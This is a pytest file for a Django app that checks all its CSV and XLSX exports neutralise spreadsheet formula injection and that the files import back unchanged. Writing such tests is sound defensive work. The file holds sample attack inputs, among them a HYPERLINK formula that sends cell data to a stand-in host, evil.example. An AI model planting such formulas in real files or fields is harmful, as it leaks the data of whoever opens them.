"""Formula injection, attacked through every CSV and XLSX the product writes.

A champion (or whoever names a hub, an event, a champion) types text a spreadsheet would run as a
formula; the office opens the export in Excel. Every file must hold it as text: in a CSV, whichever
separator Excel splits on ("," in English, ";" in French), no cell starts with =, +, -, @, a tab or
a carriage return; in an XLSX, no cell is a formula and no text starts so either. The one rule is
accounts.text.spreadsheet_safe (an apostrophe), and the imports take it away again, so an exported
file imports back unchanged.
"""

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from accounts.text import FORMULA_STARTS, spreadsheet_safe, spreadsheet_text
from champions.tests.factories import ChampionFactory
from commitments import network_file
from commitments.models import Approval, Commitment
from commitments.tests.factories import CommitmentFactory
from events.tests.factories import ProgressEventFactory

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("https://evil.example/?d="&B2,"Open")'
ATTACKS = [HYPERLINK, "+1", "-1", "@SUM(1)", "Budget;=1+2"]
# Text that already looks neutralised must come back as it was too.
ROUND_TRIP_EXTRAS = ["'=1+2", "Budget, -5 days", "Plain words; nothing to see"]
NEUTRALISED = {
    HYPERLINK: "'" + HYPERLINK,
    "+1": "'+1",
    "-1": "'-1",
    "@SUM(1)": "'@SUM(1)",
    "Budget;=1+2": "Budget;'=1+2",
}
ADMIN_EXPORT = reverse("admin:commitments_commitment_export")
ADMIN_FORMATS = {"csv": "0", "xlsx": "1"}  # the indexes of commitments.resources.FORMATS
OFFICE_IMPORT = "/dashboard/commitments/import/"


def content_of(response):
    assert response.status_code == 200, response
    return b"".join(response.streaming_content) if response.streaming else response.content


def cells_of(content, extension):
    """Every text cell of the file, as a spreadsheet reads it. A CSV is read with both separators
    Excel splits on; an XLSX's cells must not be formulas."""
    if extension == "csv":
        text = content.decode("utf-8-sig")
        return [
            cell
            for delimiter in (",", ";")
            for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
            for cell in row
        ]
    cells = []
    for row in load_workbook(io.BytesIO(content)).active.iter_rows():
        for cell in row:
            assert cell.data_type != "f", (cell.coordinate, cell.value)
            if isinstance(cell.value, str):
                cells.append(cell.value)
    return cells


def assert_holds_every_attack_as_text(content, extension):
    cells = cells_of(content, extension)
    for cell in cells:
        assert not cell.lstrip(" ").startswith(FORMULA_STARTS), (extension, cell)
    for attack in ATTACKS:
        # The text is all there, neutralised, in a cell of its own (for ",": Budget;'=1+2 is one).
        assert NEUTRALISED[attack] in cells, (extension, attack)


@pytest.fixture
def attacked(cast):
    """Each attack as a commitment's title and text, an event's title and location, a champion's name
    and position, and the hub's name: all approved, in the current cycle."""
    attacker = ChampionFactory(full_name="Mallory Attacker", title=HYPERLINK, hub=cast.champion.hub)
    for number, attack in enumerate(ATTACKS, start=1):
        commitment = CommitmentFactory(
            champion=attacker, cycle=cast.cycle, number=number, title=attack, text=attack
        )
        ProgressEventFactory(commitment=commitment, title=attack, location=attack)
    hub = cast.champion.hub
    hub.name = HYPERLINK
    hub.save()
    cast.attacker = attacker
    return cast


def test_a_champions_draft_title_reaches_the_offices_export_as_text(client, cast):
    client.force_login(cast.champion_user)
    response = client.post(
        f"/cycles/{cast.cycle.year}/champions/{cast.champion.pk}/commitments/new/",
        {
            "text": "Hold quarterly town halls with women staff.",
            "title": HYPERLINK,
            "categories": [cast.commitment.categories.first().pk],
            "description": "Four a year.",
            "target_kind": "count",
            "target_value": 4,
            "counts_kind": "meeting",
            "due_on": cast.cycle.ends_on.isoformat(),
        },
    )
    assert response.status_code == 302, response.context and response.context["form"].errors
    draft = Commitment.objects.get(title=HYPERLINK)
    assert draft.approval == Approval.DRAFT
    client.force_login(cast.office_member)
    for extension in ("csv", "xlsx"):
        cells = cells_of(content_of(client.get(f"/dashboard/commitments/export.{extension}")), extension)
        assert HYPERLINK not in cells and "'" + HYPERLINK in cells


@pytest.mark.parametrize("extension", ["csv", "xlsx"])
def test_the_offices_commitments_export_holds_every_attack_as_text(client, attacked, extension):
    client.force_login(attacked.office_member)
    content = content_of(client.get(f"/dashboard/commitments/export.{extension}"))
    assert_holds_every_attack_as_text(content, extension)


@pytest.mark.parametrize("extension", ["csv", "xlsx"])
def test_the_dashboards_export_holds_every_attack_as_text(client, attacked, extension):
    client.force_login(attacked.office_member)
    content = content_of(client.get(f"/dashboard/export.{extension}"))
    assert_holds_every_attack_as_text(content, extension)


@pytest.mark.parametrize("extension", ["csv", "xlsx"])
def test_admins_export_holds_every_attack_as_text(client, admin_user, attacked, extension):
    client.force_login(admin_user)
    response = client.post(ADMIN_EXPORT, {"resource": "0", "format": ADMIN_FORMATS[extension]})
    assert_holds_every_attack_as_text(content_of(response), extension)


def test_the_events_export_holds_every_attack_as_text(client, attacked):
    client.force_login(attacked.attacker.user)
    assert_holds_every_attack_as_text(content_of(client.get("/events/export.csv")), "csv")


def test_the_annual_reports_csv_holds_a_hubs_name_as_text(client, attacked):
    client.force_login(attacked.office_member)
    cells = cells_of(content_of(client.get(f"/reports/{attacked.cycle.year}.csv")), "csv")
    assert HYPERLINK not in cells and "'" + HYPERLINK in cells
    for cell in cells:
        assert not cell.lstrip(" ").startswith(FORMULA_STARTS), cell


def test_the_rule_takes_back_exactly_what_it_added():
    for text in [*ATTACKS, *ROUND_TRIP_EXTRAS, "\t=1", "a,\t-1", "a;\t", "''@x", "", "Plain"]:
        assert spreadsheet_text(spreadsheet_safe(text)) == text, text
    assert spreadsheet_safe("Meetings - in the field") == "Meetings - in the field"  # not a cell start
    assert spreadsheet_safe(12) == 12


@pytest.mark.parametrize("door", ["office", "admin"])
@pytest.mark.parametrize("extension", ["csv", "xlsx"])
def test_an_exported_file_imports_back_changing_nothing(client, admin_user, cast, door, extension):
    attacker = ChampionFactory(full_name="Mallory Attacker", title="-Director")
    for number, attack in enumerate([*ATTACKS[:3], *ROUND_TRIP_EXTRAS[:2]], start=1):
        CommitmentFactory(
            champion=attacker, cycle=cast.cycle, number=number, title=attack, text=f"{attack}\n{attack}"
        )
    before = list(Commitment.objects.order_by("pk").values())
    client.force_login(admin_user)
    if door == "office":
        content = content_of(client.get(f"/dashboard/commitments/export.{extension}"))
    else:
        content = content_of(client.post(ADMIN_EXPORT, {"resource": "0", "format": ADMIN_FORMATS[extension]}))

    preview = client.post(OFFICE_IMPORT, {"file": SimpleUploadedFile(f"network.{extension}", content)})

    plan = preview.context["plan"]
    assert plan.file_errors == [] and plan.refused == []
    assert (len(plan.new), len(plan.updated), plan.unchanged) == (0, 0, Commitment.objects.count())
    assert plan.champion_updates == [] and plan.champions == []
    assert "key" not in preview.context  # nothing to confirm
    assert network_file.plan(content, f".{extension}").can_apply is False
    assert list(Commitment.objects.order_by("pk").values()) == before
